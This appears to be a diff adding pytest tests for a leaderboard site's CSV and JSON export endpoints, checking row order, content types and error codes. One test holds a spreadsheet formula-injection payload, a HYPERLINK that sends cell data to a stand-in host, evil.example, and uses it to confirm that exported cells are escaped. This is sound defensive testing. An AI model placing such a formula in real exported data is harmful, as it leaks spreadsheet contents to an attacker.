@@ -1,0 +1,85 @@
+"""CSV twins of the table pages (/index.csv, /m/<slug>.csv, /hw/<slug>.csv,
+/outliers.csv, /disputes.csv) and the JSON twins added beside them:
+RFC 4180 records with a header row, the page's rows in the page's order,
+and cells a spreadsheet cannot run as formulas."""
+import csv
+import io
+
+import pytest
+
+from conftest import make_payload, new_key, sign
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click") -2'
+
+
+def upload(server, decode, name="Qwen2.5-7B-Instruct", hw="M3 Ultra"):
+    p = make_payload(model__name=name, hardware__accelerator_summary=hw)
+    p["workloads"]["chat-short"]["decode_tok_s"] = decode
+    r = server.upload(sign(p, new_key())[0])
+    assert r.status_code == 201, r.text
+    return r.json()["id"]
+
+
+def records(resp):
+    assert resp.status_code == 200, resp.text
+    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
+    text = resp.content.decode("utf-8")
+    assert text.endswith("\r\n")
+    # Every record ends with CRLF; a bare LF appears only inside quotes.
+    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+    header, body = rows[0], rows[1:]
+    assert all(len(r) == len(header) for r in body)
+    return [dict(zip(header, r)) for r in body]
+
+
+def test_table_pages_have_csv_twins_in_page_order(server):
+    ids = [upload(server, d) for d in (50.0, 70.5, 60.25)]
+    board = records(server.get("/index.csv"))
+    assert [r["id"] for r in board] == [ids[1]]   # the board keeps each group's best
+    model = records(server.get("/m/qwen2-5-7b-instruct.csv"))
+    assert [r["id"] for r in model] == [ids[1], ids[2], ids[0]]
+    assert [float(r["decode_tok_s"]) for r in model] == [70.5, 60.25, 50.0]
+    assert model[0]["url"] == server.url + "/r/" + ids[1]
+    assert model[0]["model"] == "Qwen2.5-7B-Instruct" and model[0]["hw_slug"] == "m3-ultra"
+    assert model[0]["outlier"] == "false"
+    hw = records(server.get("/hw/m3-ultra.csv"))
+    assert [r["id"] for r in hw] == [ids[1], ids[2], ids[0]]
+    hw_model = records(server.get("/hw/m3-ultra.csv?model=qwen2-5-7b-instruct"))
+    assert [r["id"] for r in hw_model] == [ids[1], ids[2], ids[0]]
+    # The same rows as the JSON twin, a page at a time with its cursor.
+    j = server.get("/m/qwen2-5-7b-instruct.json").json()
+    assert [r["id"] for r in j["list"]["runs"]] == [r["id"] for r in model]
+
+
+def test_json_twins_of_list_pages(server):
+    rid = upload(server, 10.0)
+    assert server.post("/api/v1/runs/%s/disputes" % rid, json={"body": "Hm."}).status_code == 201
+    j = server.get("/disputes.json")
+    assert j.status_code == 200 and j.headers["Content-Type"] == "application/json"
+    assert [r["id"] for r in j.json()["rows"]] == [rid]
+    assert [r["id"] for r in records(server.get("/disputes.csv"))] == [rid]
+    assert server.get("/outliers.json").json()["rows"] == []
+    assert records(server.get("/outliers.csv")) == []
+    assert server.get("/index.json").json()["board"]["runs"][0]["id"] == rid
+
+
+def test_cells_cannot_be_formulas(server):
+    rid = upload(server, 10.0, name=EVIL, hw="@M3 Ultra")
+    rows = records(server.get("/index.csv"))
+    assert len(rows) == 1
+    assert rows[0]["model"] == "'" + EVIL
+    assert rows[0]["hardware"] == "'@M3 Ultra"
+    for r in rows:
+        for k, v in r.items():
+            if k not in ("decode_tok_s", "prefill_tok_s", "ttft_ms", "sigma"):
+                assert not v[:1] in ("=", "+", "-", "@"), (k, v)
+    assert rows[0]["id"] == rid
+
+
+def test_bad_arguments_answer_json_errors(server):
+    upload(server, 10.0)
+    r = server.get("/index.csv?after=bogus")
+    assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_query"
+    r = server.get("/m/NOT_A_SLUG.csv")
+    assert r.status_code == 404 and r.headers["Content-Type"] == "application/json"
+    assert server.get("/outliers.csv?page=0").status_code == 400
